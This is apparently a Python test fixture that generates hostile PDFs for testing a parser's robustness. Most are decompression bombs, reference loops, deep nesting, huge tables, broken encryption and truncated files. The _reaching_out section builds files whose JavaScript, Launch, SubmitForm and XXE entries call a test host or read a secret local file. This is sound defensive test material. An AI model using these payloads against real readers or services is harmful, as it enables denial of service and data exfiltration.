"""PDFs that unfold, turn in circles, lie about themselves or reach out."""

import io
import struct
from collections.abc import Mapping

from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas
from tests.documents.hostile.bombs import MEGABYTE, Outside, flate, zeros

_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_CID_FONT = (
    b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/DW 500/FontDescriptor 8 0 R"
    b"/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>"
)
_TYPE0 = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[6 0 R]/ToUnicode 7 0 R>>"
_DESCRIPTOR = b"<</Type/FontDescriptor/FontName/X/Flags 4/FontBBox[0 0 500 700]/Ascent 700/Descent -200%s>>"
_HELLO = b"BT /F 10 Tf 72 700 Td (Forklift driver) Tj ET"


def numbered(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Number objects from 1 (the first is the catalog), without a cross-reference table."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, content) for number, content in enumerate(objects, start=1))
    return b"%PDF-1.5\n" + body + b"trailer<</Root 1 0 R" + trailer + b">>\n%%EOF"


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), entries, content)


def page(
    content: bytes = stream(_HELLO),
    font: bytes = _FONT,
    *others: bytes,
    box: bytes = b"[0 0 595 842]",
    resources: bytes = b"",
    catalog: bytes = b"",
) -> bytes:
    """A PDF of one page; the objects after content (4) and font (5) are counted from 6."""
    return numbered(
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox" + box + b"/Contents 4 0 R/Resources<</Font<</F 5 0 R>>" + resources + b">>>>",
        content,
        font,
        *others,
    )


def _with_map(cmap: bytes) -> bytes:
    shown = stream(b"BT /F 10 Tf 72 700 Td <00410042> Tj ET")
    return page(shown, _TYPE0, _CID_FONT, cmap, _DESCRIPTOR % b"")


def _map(body: bytes) -> bytes:
    return b"begincmap 1 begincodespacerange <0000> <FFFF> endcodespacerange " + body + b" endcmap"


def _unfolding() -> dict[str, bytes]:
    flate_filter = b"/Filter/FlateDecode"
    twice = b"/Filter[/FlateDecode/FlateDecode]"
    font_bomb = stream(flate(zeros(2000)), twice + b"/Length1 2000000000")
    return {
        "content-2-gb": page(stream(flate(zeros(2000)), twice)),
        "content-4-million-characters": page(
            stream(flate(b"BT /F 10 Tf " + b"(" + b"a" * 4000 + b") Tj\n" * 1 + b"ET ", 1000), flate_filter)
        ),
        "content-operators": page(stream(flate(b"q 1 0 0 1 0 0 cm Q\n" * 50_000, 15), flate_filter)),
        "content-run-length": page(stream(_run_length(40), b"/Filter[/RunLengthDecode/RunLengthDecode/RunLengthDecode]")),
        "content-predictor": page(
            stream(flate(zeros(300)), b"/Filter[/FlateDecode/FlateDecode]/DecodeParms[null<</Predictor 15/Columns 2000000000/Colors 4>>]")
        ),
        "tounicode-2-gb": _with_map(stream(flate(zeros(2000)), twice)),
        "tounicode-400-mb-of-tokens": _with_map(stream(flate(flate(b"<0041> <0042>\n" * 71_000, 400)), twice)),
        "tounicode-range": _with_map(stream(_map(b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange"))),
        "tounicode-long-values": _with_map(
            stream(
                flate(_map(b"2 beginbfchar " + b"".join(b"<%04X> <%s>" % (code, b"0041" * 200_000) for code in (65, 66)) + b" endbfchar")),
                flate_filter,
            )
        ),
        "font-file-2-gb": page(
            stream(_HELLO), b"<</Type/Font/Subtype/Type1/BaseFont/X/FontDescriptor 6 0 R>>", _DESCRIPTOR % b"/FontFile 7 0 R", font_bomb
        ),
        "true-type-file-2-gb": page(
            stream(b"BT /F 10 Tf 72 700 Td <00410042> Tj ET"),
            _TYPE0.replace(b"/ToUnicode 7 0 R", b""),
            _CID_FONT,
            font_bomb,
            _DESCRIPTOR % b"/FontFile2 7 0 R",
        ),
        "font-widths": page(stream(_HELLO), b"<</Type/Font/Subtype/Type1/BaseFont/X/FirstChar 0/LastChar 2000000000/Widths[500]>>"),
        "font-cid-widths": page(
            stream(b"BT /F 10 Tf 72 700 Td <0041> Tj ET"), _TYPE0, _CID_FONT.replace(b"/DW 500", b"/W[0 2000000000 500]"), stream(b"")
        ),
        "object-stream-2-gb": numbered(
            stream(flate(zeros(2000)), twice + b"/Type/ObjStm/N 1000000/First 10"), b"<</Type/Catalog/Pages 3 0 R>>"
        ),
        "object-stream-many": numbered(
            stream(flate(b"1 0 " * 250_000, 20), flate_filter + b"/Type/ObjStm/N 1000000000/First 10"), b"<</Type/Catalog>>"
        ),
        "object-stream-of-itself": numbered(stream(b"1 0 <</Type/Catalog>>", b"/Type/ObjStm/N 1/First 4/Extends 1 0 R")),
        "image-10-gigapixels": page(
            stream(b"q 500 0 0 500 0 0 cm /I Do Q"),
            _FONT,
            stream(
                flate(zeros(2000)),
                twice + b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 8/ColorSpace/DeviceGray",
            ),
            resources=b"/XObject<</I 6 0 R>>",
        ),
        "lzw": page(stream(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01" * 200_000, b"/Filter/LZWDecode")),
        "many-filters": page(stream(_HELLO, b"/Filter[" + b"/ASCIIHexDecode" * 20_000 + b"]")),
        "jbig2": page(
            stream(b"q /I Do Q"),
            _FONT,
            stream(
                bytes.fromhex("0000000030000100000013") + struct.pack(">IIIIBH", 100_000, 100_000, 0, 0, 0, 0),
                b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode",
            ),
            resources=b"/XObject<</I 6 0 R>>",
        ),
    }


def _run_length(size: int) -> bytes:
    """Bytes that run-length decoding unfolds three times, a hundredfold each time."""
    data = b"(a) "
    data = bytes([129]) + data[:1] + b"".join(bytes([129, byte]) for byte in data * size)
    for _ in range(2):
        data = b"".join(bytes([0, byte]) for byte in data[: 100 * size]) + bytes([129, 32]) * 4000
    return data


def _circling() -> dict[str, bytes]:
    deep = b"".join(b"<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>\0" % (number - 1, number + 1) for number in range(3, 5000))
    forms = [
        stream(b"/X Do " * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % n) for n in range(7, 20)
    ]
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    type3 = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[.1 0 0 .1 0 0]/FirstChar 70/LastChar 70/Widths[500]"
        b"/CharProcs<</F 4 0 R>>/Encoding<</Type/Encoding/Differences[70/F]>>/Resources<</Font<</F 5 0 R>>>>>>"
    )
    body = numbered(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>")
    at = len(body) + 1
    return {
        "xref-loop": body + b"\nxref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Size 3/Prev %d>>\nstartxref\n%d\n%%%%EOF" % (at, at),
        "xref-of-a-billion": body
        + b"\nxref\n0 1000000000\n"
        + b"0000000009 00000 n \n" * 50_000
        + b"trailer<</Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % at,
        "xref-of-a-million": _million_objects(),
        "xref-to-nowhere": body + b"\nstartxref\n99999999999999999999\n%%EOF",
        "page-tree-loop": numbered(
            b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>", b"<</Type/Pages/Kids[2 0 R]>>"
        ),
        "page-tree-deep": numbered(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", *deep.split(b"\0")),
        "page-tree-wide": numbered(
            b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[" + b"3 0 R " * 300_000 + b"]>>", b"<</Type/Page>>"
        ),
        "deep-arrays": page(b"[" * 200_000 + b"]" * 200_000),
        "deep-arrays-drawn": page(stream(b"[" * 200_000 + b"]" * 200_000 + b" TJ")),
        "deep-dictionaries": page(stream(_HELLO), b"<</A" * 100_000 + b"1" + b">>" * 100_000),
        "deep-brackets": page(stream(b"(" * 2 * MEGABYTE)),
        "form-of-itself": page(stream(b"/X Do"), _FONT, stream(b"/X Do /X Do", form), resources=b"/XObject<</X 6 0 R>>"),
        "forms-of-forms": page(stream(b"/X Do"), _FONT, *forms, stream(_HELLO, form), resources=b"/XObject<</X 6 0 R>>"),
        "glyph-of-itself": page(stream(b"BT /F 10 Tf (F) Tj ET"), type3),
        "length-of-itself": page(b"<</Length 4 0 R/Filter 4 0 R>>stream\n" + _HELLO + b"\nendstream"),
        "reference-to-itself": page(b"4 0 R", b"5 0 R"),
        "saved-states": page(stream(flate(b"q " * 500_000, 10), b"/Filter/FlateDecode")),
        "marked-content": page(stream(flate(b"/Span<</ActualText(x)>>BDC " * 30_000, 10), b"/Filter/FlateDecode")),
        "many-headers": b"%PDF-1.4\n" + b"1 0 obj<<>>endobj\n" * 200_000,
        "many-trailers": b"%PDF-1.4\n" + b"trailer<</Root 1 0 R>>startxref 0 %%EOF\n" * 200_000,
        "comments": b"%PDF-1.4\n" + b"%" * 10 * MEGABYTE,
    }


def _million_objects() -> bytes:
    body = numbered(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>")
    entries = b"/Type/XRef/Size 1000000/W[1 4 2]/Root 1 0 R/Filter/FlateDecode"
    table = stream(flate(struct.pack(">BIH", 1, 9, 0) * 10_000, 100), entries)
    return body + b"\n3 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF" % (len(body) + 1)


def _drawing() -> dict[str, bytes]:
    scattered = b"".join(b"1 0 0 1 %d %d Tm (x) Tj " % (n * 7919 % 999_983, n * 104_729 % 999_979) for n in range(20_000))
    return {
        "huge-box": page(stream(b"BT /F 10 Tf " + scattered + b"ET"), box=b"[0 0 1000000000 1000000000]"),
        "no-box": page(box=b"[0 0 0 0]"),
        "box-of-words": page(box=b"[(a) /b null [1]]"),
        "not-a-number": page(stream(b"BT /F 1e400 Tf 1e308 1e308 1e308 1e308 1e308 1e308 Tm (a) Tj 9999999999999999999999 0 Td (b) Tj ET")),
        "endless-digits": page(stream(b"BT /F " + b"9" * MEGABYTE + b" Tf (a) Tj ET")),
        "paths": page(stream(flate(b"0 0 m 9 9 l S\n" * 10_000, 30), b"/Filter/FlateDecode")),
        "rulings": page(stream(b"".join(b"0 %d m 500 %d l S %d 0 m %d 800 l S " % (n, n, n, n) for n in range(20_000)))),
        "stacked-glyphs": page(stream(b"BT /F 10 Tf " + b"1 0 0 1 72 700 Tm (overlapping words) Tj " * 8000 + b"ET")),
        "tiny-glyphs": page(stream(b"BT /F .0001 Tf 72 700 Td " + b"(abc def) Tj .001 .001 Td " * 15_000 + b"ET")),
    }


def _reaching_out(outside: Outside) -> dict[str, bytes]:
    url, file = outside.url.encode(), str(outside.secret).encode()
    actions = b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('%s'\\))/Next[<</S/Launch/F(%s)>><</S/URI/URI(%s)>>]>>" % (url, file, url)
    forms = b"/AA<</WC<</S/SubmitForm/F(%s)>>>>/AcroForm<</XFA 6 0 R/Fields[]>>" % url
    embedded = b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(%s)/EF<</F 6 0 R>>>>]>>>>" % file
    xfa = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "file://%s">]><x>&s;</x>' % file
    return {
        "actions": page(catalog=actions + forms, font=_FONT),
        "form-data": page(stream(_HELLO), _FONT, stream(xfa), catalog=forms),
        "stream-in-another-file": page(stream(b"", b"/F(%s)" % file)),
        "stream-on-a-server": page(stream(b"", b"/F<</FS/URL/F(%s)>>" % url)),
        "embedded-bomb": page(
            stream(_HELLO), _FONT, stream(flate(zeros(2000)), b"/Type/EmbeddedFile/Filter[/FlateDecode/FlateDecode]"), catalog=embedded
        ),
        "embedded-self": page(stream(_HELLO), _FONT, stream(page(catalog=embedded), b"/Type/EmbeddedFile"), catalog=embedded),
    }


def _locked() -> dict[str, bytes]:
    buffer = io.BytesIO()
    canvas = Canvas(buffer, encrypt=StandardEncryption("open", ownerPassword="own", strength=128))
    canvas.drawString(72, 700, "Forklift driver")
    canvas.save()
    nonsense = b"/Encrypt<</Filter/Standard/V 99/R 77/Length 99999999/O(a)/U(b)/P -1>>/ID[(a)(b)]"
    rounds = b"/Encrypt<</Filter/Standard/V 5/R 6/Length 256/O(%s)/U(%s)/OE(a)/UE(b)/P -1>>/ID[(a)(b)]" % (b"o" * 127, b"u" * 127)
    return {
        "locked": buffer.getvalue(),
        "locked-by-nonsense": page().replace(b"/Root 1 0 R", b"/Root 1 0 R" + nonsense),
        "locked-in-rounds": page().replace(b"/Root 1 0 R", b"/Root 1 0 R" + rounds),
    }


def _cut() -> dict[str, bytes]:
    buffer = io.BytesIO()
    canvas = Canvas(buffer)
    for number in range(3):
        for line in range(40):
            canvas.drawString(72, 800 - 15 * line, f"Line {line} of page {number}: kept the books of a small company")
        canvas.showPage()
    canvas.save()
    whole = buffer.getvalue()
    return {f"cut-at-{tenth}0-percent": whole[: len(whole) * tenth // 10] for tenth in range(1, 10)}


def files(outside: Outside) -> Mapping[str, bytes]:
    return {
        f"{name}.pdf": data
        for made in (_unfolding(), _circling(), _drawing(), _reaching_out(outside), _locked(), _cut())
        for name, data in made.items()
    }
